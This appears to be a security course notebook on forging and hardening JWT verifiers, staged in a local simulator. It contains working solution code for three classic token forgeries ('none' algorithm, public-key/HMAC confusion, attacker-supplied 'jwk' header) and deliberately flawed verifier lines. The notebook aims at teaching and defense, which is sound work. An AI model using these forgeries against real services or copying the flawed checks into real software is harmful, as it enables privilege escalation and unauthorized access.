# ---
# course:
#   title: Can anyone get past your verifier?
#   part: "I: the token"
#   questions:
#     - How does one forge a token that a careless verifier believes?
#     - What gets past a verifier of seven good layers?
#     - What do the libraries let through?
#   objectives:
#     - stage the three classic attacks yourself, and say what stops each
#     - read the story of a breach and mend the layer that it names
#     - compare verifiers by what they refuse and by what they accept
#   minutes: 70
#   if_short_skip: [05.own_key]
# ---

# %% [markdown]
# # 5. Can anyone get past your verifier?
#
# Mallory has a viewer's account and would like an editor's. She has time, she has read every advisory, and she needs to
# be lucky once. In this notebook you are Mallory first, and then you are the one who built the door.
#
# All of this happens in the range: with keys made for it, against functions on this computer. Against a service that
# isn't yours it would be a crime. Against your own it belongs in a test, and at the end of this notebook you have one.

# %%
from course import carry, check, quiz, show, use

# %% [markdown]
# {{quiz 05.recall_order}}

# %%
quiz("05.recall_order", "b")

# %% [markdown]
# {{quiz 05.recall_public}}

# %%
quiz("05.recall_public", "a")

# %% [markdown]
# ## What Mallory has
#
# An honest token of her own, the keys that Grace publishes for everybody, and two functions to read and write the parts
# of a token:

# %% [markdown] tags=["slide"]
# ## What Mallory has
#
# - an honest token of her own
# - the public keys, as everybody has
# - every advisory that was ever written
#
# What she wants is one word: *editor* in place of *viewer*. She needs to be lucky once.

# %%
import json

from course.judged import published_keys, with_claims
from simulator.jose import b64url_decode, b64url_encode

keys = published_keys()
mine = with_claims(sub="mallory", roles=["viewer"], jti="mallory-a1")
header, payload, signature = mine.split(".")
print(b64url_decode(header).decode())
print(b64url_decode(payload).decode())

# %% [markdown]
# What she wants is the same token with `"roles": ["editor"]`. Changing the payload is easy; the signature is what stands
# in her way:

# %%
from course.prey import as_pem, asks_for_none, confuses_keys, takes_their_key


def make_part(value):
    """A header or payload as base64url of its JSON."""
    return b64url_encode(json.dumps(value).encode())


def promoted(token):
    """The claims of a token, with another role."""
    claims = json.loads(b64url_decode(token.split(".")[1]))
    return {**claims, "roles": ["editor"]}


changed = f"{header}.{make_part(promoted(mine))}.{signature}"
for verify in [asks_for_none, confuses_keys, takes_their_key]:
    try:
        print(verify.__name__, verify(changed, keys)["roles"])
    except ValueError as no:
        print(verify.__name__, "refuses:", no)

# %% [markdown] tags=["instructor"]
# Ask what all three do right: they check the signature. So the mistake has to be in what they believe *before* that.

# %% [markdown]
# Three verifiers, and all three check signatures. Each was written by somebody who knew that one must. And each has a
# hole of one line.
#
# ## No signature at all
#
# The first one reads:
#
#     if header["alg"] != "none":
#         require_signature(published(keys, header["kid"]), header["alg"], octets, signature)
#
# The standard has a name for tokens without a signature, `none`, for those who protect them otherwise (RFC 7519 6). The
# author knew that, and was polite to it.
#
# ### Your turn: forge
#
# Make a token with the role of an editor that `asks_for_none` accepts. You have one genuine token and no key.


# %% [markdown] tags=["slide"]
# ## No signature at all
#
# ```python
# if header["alg"] != "none":
#     require_signature(published(keys, header["kid"]), header["alg"], octets, signature)
# ```
#
# The standard knows the word `none`. The author was polite to it.


# %% exercise="05.none" minutes=5
def forge_none(token):
    """An editor's token, made of a viewer's, for `asks_for_none`."""
    ### BEGIN SOLUTION
    header = {"alg": "none", "typ": "at+jwt"}
    return f"{make_part(header)}.{make_part(promoted(token))}."
    ### END SOLUTION


# %%
check("05.none", forge_none)

# %% [markdown] tags=["instructor"]
# - *another case*: This verifier compares letter by letter, so here only `none` will do. Others that forbade `none`
#   fell to `nOnE`.
# - *two parts*: The third part may be empty, and its dot has to be there. Count dots aloud.

# %% [markdown] tags=["on-slide"]
# In 2015 several libraries fell to this very token. Some mended it by refusing `none`, and fell again to `None` and
# `nOnE`. What stops it is layer 3: a list of what is *allowed*, and it has no `none` on it.
#
# ## The public key as a secret
#
# The second one holds one key for each name, as the text that stands in a file (PEM), and reads:
#
#     if header["alg"] == "HS256":
#         secret = as_pem(jwk)
#
# {{quiz 05.predict_confusion}}

# %%
quiz("05.predict_confusion", "c")

# %% [markdown]
# ### Your turn: forge
#
# `as_pem(jwk)` gives you the octets of a public key's PEM. `hmac.digest(secret, octets, "sha256")` makes the MAC of
# notebook 02. The key of your token's `kid` is in `keys["keys"]`.

# %%
import hmac


# %% exercise="05.confusion" minutes=8
def forge_confusion(token, keys):
    """An editor's token, made of a viewer's and the public keys, for `confuses_keys`."""
    header = json.loads(b64url_decode(token.split(".")[0]))
    jwk = next(jwk for jwk in keys["keys"] if jwk.get("kid") == header["kid"])
    ### BEGIN SOLUTION
    text = f"{make_part({**header, 'alg': 'HS256'})}.{make_part(promoted(token))}"
    mac = hmac.digest(as_pem(jwk), text.encode(), "sha256")
    return f"{text}.{b64url_encode(mac)}"
    ### END SOLUTION


# %%
check("05.confusion", forge_confusion)

# %% [markdown] tags=["instructor"]
# - *the JWK as secret*: Ask which octets the *verifier* has in its hands. It calls `as_pem`, so the MAC is made with
#   that.
# - *no dot*: The dot again. Whoever forgets it here forgot it in 02.

# %% [markdown]
# The key is public, so everybody can mint tokens. Two things stop it: the allow-list (no HS256 among algorithms for key
# pairs), and a key that knows the one algorithm it is for. The list alone fails on the day on which somebody puts both
# kinds on it, "for the time of the migration". CVE-2022-29217 (PyJWT) and CVE-2016-5431 (a PHP library) are of this
# family.
#
# ## Bring your own key
#
# The third one reads:
#
#     jwk = header.get("jwk") or published(keys, header["kid"])
#
# The standard does allow a token to carry the public key that belongs to its signature (RFC 7515 4.1.3). It says nothing
# about believing that key.
#
# ### Your turn: forge
#
# Mallory has made a key pair. `sign_es256(text)` signs a text with its private half and gives you the octets;
# `my_jwk` is its public half.

# %% [markdown] tags=["slide"]
# ## Bring your own key
#
# ```python
# jwk = header.get("jwk") or published(keys, header["kid"])
# ```
#
# A token may carry a public key (RFC 7515 4.1.3). Nobody said that you should believe it.

# %%
from course.judged import public_jwk
from course.judged import signature as signature_by

my_jwk = public_jwk("mallory", "ES256")


def sign_es256(text):
    """The signature of Mallory's own key."""
    return signature_by(text, "mallory")


# %% exercise="05.own_key" minutes=6
def forge_own_key(token, my_jwk, sign_es256):
    """An editor's token, made of a viewer's, with Mallory's key, for `takes_their_key`."""
    ### BEGIN SOLUTION
    header = {"alg": "ES256", "typ": "at+jwt", "kid": my_jwk["kid"], "jwk": my_jwk}
    text = f"{make_part(header)}.{make_part(promoted(token))}"
    return f"{text}.{b64url_encode(sign_es256(text))}"
    ### END SOLUTION


# %%
check("05.own_key", forge_own_key)

# %% [markdown] tags=["instructor"]
# - *in the payload*: Ask where a verifier looks before it has believed anything: in the header.
# - *keeps the old signature*: The old one was made by Grace's key. They have a key of their own now; let them use it.

# %% [markdown]
# Layer 4 stops it: keys come from the set that you trust. The same holds for `jku` and `x5u` in a header, which are
# addresses: whoever follows them fetches what Mallory wrote, from where Mallory wants. CVE-2018-0114 (Cisco's
# node-jose) was this one.
#
# ## The range
#
# You have staged three. The range has some ninety, each a small function: casings of `none`, spliced signatures,
# padding, names that are there twice, dates as texts, neighbours' tokens, nesting of a hundred thousand brackets. And
# it has honest tokens, among them odd ones. A verifier that refuses everything is no good.
#
# Keys, names and times are new in each run, and honest and forged tokens come mixed. First, somebody who asks the token
# for everything:

# %%
from simulator.attacks import attack_range
from simulator.attacks.verifiers import COLUMNS

naive = attack_range(COLUMNS["asks the token"], seed=5)
print(f"forged refused: {naive.forged_refused} of {naive.forged}")
print(f"honest accepted: {naive.honest_accepted} of {naive.honest}")
print()
for breach in naive.breaches[:4]:
    print(breach.story(), end="\n\n")

# %% [markdown] tags=["instructor"]
# At the four stories let people say of each which line of code was missing, before anybody reads the third line aloud.

# %% [markdown]
# Each breach is told in three lines: what Mallory had to know, what went in, and which layer was missing.
#
# ## Your verifier
#
# Now the one that you built in notebook 04. If you got a layer right there, yours is carried over.

# %%
split = carry("04.split")
_, _, decode = carry("04.decode")
allow = carry("04.allow_list")
choose = carry("04.choose_key")
check_signature = carry("04.signature")
check_claims = carry("04.claims")
check_policy = carry("04.policy")


# %%
def seven_layers(token, keys, *, algorithms, issuer, audience, now, leeway, typ):
    """The verifier of notebook 04."""
    header_text, payload_text, signature_text = split(token)
    header = decode(header_text)
    allow(header, algorithms)
    jwk = choose(header, keys)
    check_signature(jwk, header_text, payload_text, signature_text)
    claims = decode(payload_text)
    check_claims(claims, now, leeway)
    check_policy(header, claims, issuer, audience, typ)
    return claims


# %% [markdown] tags=["on-slide"]
# {{quiz 05.predict_score}}

# %%
quiz("05.predict_score", "b")

# %%
first = attack_range(seven_layers, seed=5)
print(f"forged refused: {first.forged_refused} of {first.forged}")
print(f"honest accepted: {first.honest_accepted} of {first.honest}")
print()
for row in first.breaches + first.turned_away:
    print(row.story(), end="\n\n")

# %% [markdown]
# Seven careful layers, and still some got in. None of them is a slip in your code. They are questions that nobody had
# asked: is the key itself any good? can this name be written down again? is a token honest that lives for fifty
# thousand years? And one honest token was turned away, since its type is written in full.
#
# ### Your turn: until nothing gets past
#
# Add what is missing. You need not touch the seven layers: there are two gaps, one before the signature is checked and
# one after the payload was read. (To refuse is still to raise `Refused(layer, reason)`.)
#
# - Weak keys: a secret (`kty` is `oct`, the octets are `k` in base64url) has at least 32 octets, an RSA modulus (`n`)
#   at least 256 (RFC 7518 3.2, 3.3).
# - `header["typ"]` may begin with `application/`.
# - No token lives longer than a year: `exp` lies at most `YEAR` seconds after `now`.
# - A JSON text may hold *half* a character (`"\ud800"`, a lone surrogate). Python reads it, and can't write it:
#   `json.dumps(claims, ensure_ascii=False).encode()` raises UnicodeEncodeError, which is a ValueError.

# %%
from course.refused import Refused

YEAR = 366 * 24 * 3600


# %% exercise="05.harden" minutes=15
def verify(token, keys, *, algorithms, issuer, audience, now, leeway, typ):
    """The claims of a token that is to be believed. Raises Refused for any other."""
    header_text, payload_text, signature_text = split(token)
    header = decode(header_text)
    allow(header, algorithms)
    jwk = choose(header, keys)
    ### BEGIN SOLUTION
    octets = {"oct": ("k", 32), "RSA": ("n", 256)}.get(jwk["kty"])
    if octets and len(b64url_decode(jwk[octets[0]])) < octets[1]:
        raise Refused("key", "too weak")
    header["typ"] = str(header.get("typ")).lower().removeprefix("application/")
    ### END SOLUTION
    check_signature(jwk, header_text, payload_text, signature_text)
    claims = decode(payload_text)
    check_claims(claims, now, leeway)
    ### BEGIN SOLUTION
    if claims["exp"] > now + YEAR:
        raise Refused("claims", "lives too long")
    try:
        json.dumps(claims, ensure_ascii=False).encode()
    except ValueError:
        raise Refused("decode", "half a character") from None
    ### END SOLUTION
    check_policy(header, claims, issuer, audience, typ)
    return claims


# %%
check("05.harden", verify)

# %% [markdown] tags=["instructor"]
# - *letters, not octets*: A key of 256 octets has 342 letters in base64url. Ask what was counted.
# - *the type in full*: Most forget that an honest token may say `application/at+jwt`. Security that locks out guests
#   is switched off.

# %% [markdown]
# ## Beside the others
#
# The same tokens for everybody: three naive verifiers, PyJWT with sloppy options, PyJWT and joserfc as their manuals
# want them, `simulator.jose` (the hardened version of what you wrote), and yours.

# %%
from simulator.attacks import compare
from simulator.views.matrix import matrix

yours = use("05.harden", verify)
comparison = compare({"yours": yours, **COLUMNS}, seed=5)
show(matrix(comparison))

# %% [markdown] tags=["instructor"]
# **At the matrix** don't read rows; ask for a column. *Signature only* is what many teams have: ask how much it lets
# in, and of which family (35 of 97, and all but four are claims). Then compare the two libraries with the first
# column: what stands there is left to the caller.

# %% [markdown] tags=["slide"]
# ## The same tokens for everybody

# %% tags=["on-slide"]
for name, result in comparison.results.items():
    forged = f"{result.forged_refused:2} of {result.forged} forged refused"
    honest = f"{result.honest_accepted:2} of {result.honest} honest accepted"
    print(f"{name:16}{forged}, {honest}, score {result.score}")

# %% [markdown]
# A yellow diamond is a token that was refused by accident: the verifier fell over. A dash is an attack that no single
# token gives away, such as the same token twice; only a verifier with a memory could refuse it. (Notebook 11 has one.)
# The score multiplies both shares, so that who refuses everything scores nothing. What each row does stands in
# `simulator.attacks.ATTACKS["b64-false"].summary`, for instance.
#
# Now look at the columns of the two libraries. What they let in is no mystery: they leave these questions to the
# caller. Here is what PyJWT, well configured, leaves to you:

# %%
for row in comparison.results["PyJWT"].breaches:
    print(f"{row.name:28} {row.layer:10} {row.summary}")

# %% [markdown]
# A library with a hole of one line has thousands of users, and the hole is mended in a day. What it leaves open stays
# open in each of your programs, until you close it. So write the range's attacks into your tests. For this one the
# command line is enough, for any verifier that you can import:
#
#     python -m simulator attack mypackage.mymodule:verify
#
# It ends with status 1 when a forged token got in or an honest one was turned away, so that a build fails.
#
# ## At a backend's door
#
# Does it matter? In the scenario `attacked` Ada watches, Bo cuts a trailer in the studio, and Mallory, who may watch but
# not cut, shows one forgery after the other at the studio's door. First with a naive verifier:

# %% [markdown] tags=["slide"]
# ## At the studio's door: a verifier that asks the token

# %% tags=["on-slide"]
from simulator import run

open_door = run("attacked", verify=COLUMNS["asks the token"])
show(open_door.timeline(["bo", "mallory"]))
open_door.summary()

# %% [markdown] tags=["instructor"]
# **At the open door** let people count the dots in Mallory's row *served*: two pages of the studio. The squares are
# worth a question too: those tokens got past the verifier, and what stopped them was the role in them.

# %% [markdown]
# Every dot in Mallory's row *served* is a page of the studio that she should never have seen. (The squares are tokens
# that got past the verifier, too, but with a viewer's role in them.) And now with yours:

# %% [markdown] tags=["slide"]
# ## The same evening, with yours

# %% tags=["on-slide"]
closed_door = run("attacked", verify=yours)
show(closed_door.timeline(["bo", "mallory"]))
closed_door.summary()

# %% [markdown] tags=["instructor"]
# **At the closed door** don't look at Mallory, look at Bo. Ask whether anything changed for him. Nothing did, and that
# is half of the job.

# %% [markdown]
# Ada and Bo noticed nothing (compare their rows in the two tables), and that is the other half of the job.
#
# ## What you saw
#
# Most forgeries need no broken mathematics. They need a verifier that asks the token what only the verifier may decide.
# And a good verifier is not the one without known holes: it is the one that is attacked every day, by its own tests.
#
# {{quiz 05.check_none}}

# %%
quiz("05.check_none", "c")

# %% [markdown]
# {{quiz 05.check_all}}

# %%
quiz("05.check_all", "b")

# %% [markdown]
# {{quiz 05.check_honest}}

# %%
quiz("05.check_honest", "a")

# %% [markdown]
# **Key points**
#
# - The token decides nothing: not the algorithm, not the key, not where keys are found.
# - One key, one algorithm. The public half of a pair is not a secret, and must never serve as one.
# - Weak keys, endless lives and half characters get past good layers, if nobody asks.
# - A verifier is measured twice: by the forged that it refuses and by the honest that it accepts.
# - What a library leaves to you, nobody else closes.
#
# **Where it is written.** RFC 8725 lists the attacks of this notebook, section 2, and what to do, section 3. Algorithms
# and keys: RFC 7518 3. `none`: RFC 7519 6. Keys in headers: RFC 7515 4.1.2 to 4.1.6 and 10.
#
# **From real life.** One for each family that you staged: `none` (CVE-2022-23540, node's jsonwebtoken), the confused key
# (CVE-2015-9235, the same library, and CVE-2022-29217, PyJWT), the key that came along (CVE-2018-0114, node-jose).

# %% [markdown]
# What you have done here, and what to read next:

# %%
from course import progress

progress("05")

# %% [markdown] tags=["instructor"]
# Say at the beginning, and once more at the end: all of this stays in the simulator, and against a service that isn't
# yours it is a crime. What people should take home is a command for their own build, `python -m simulator attack`. No
# later notebook needs this one.
